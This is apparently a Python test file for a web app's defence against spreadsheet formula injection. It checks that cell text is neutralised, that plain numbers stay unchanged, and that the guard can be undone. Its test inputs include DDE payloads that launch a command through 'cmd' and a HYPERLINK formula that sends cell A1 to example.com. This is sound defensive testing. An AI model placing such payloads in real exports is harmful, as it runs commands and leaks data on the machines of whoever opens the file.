"""Texts that a spreadsheet would compute are made harmless, and come back."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sorbo_web.api.tables.formulas import guarded, unguarded

FORMULAS = (
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '=HYPERLINK("http://example.com?x="&A1;"x")',
    "'=1+1",
    "＝1+1",  # noqa: RUF001 — the wide one is meant
    "a;=1+1",
    "a,=1+1",
    "a\n@SUM(1)",
)
_LETTERS = st.text(alphabet="'=+-@\t\r\n;, a1＝", max_size=12)  # noqa: RUF001 — idem


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_a_text(text: str) -> None:
    assert guarded(text) != text
    assert "'" in guarded(text)


@pytest.mark.parametrize(
    "text", ["+226 25 00 00 00", "-12", "-12,5", "+1.5", "12-14", "a@example.com", "a = b"]
)
def test_numbers_and_what_computes_nothing_stay(text: str) -> None:
    assert guarded(text) == text


@given(_LETTERS)
def test_what_was_guarded_comes_back(text: str) -> None:
    assert unguarded(guarded(text)) == text


@given(_LETTERS)
def test_nothing_that_is_guarded_begins_as_a_formula(text: str) -> None:
    first = guarded(text).lstrip(" ")[:1]
    harmless = text.lstrip("+-").replace(" ", "").replace(",", "").isdigit()
    assert harmless or first not in {"=", "+", "-", "@", "\t", "\r", "＝"}  # noqa: RUF001 — idem
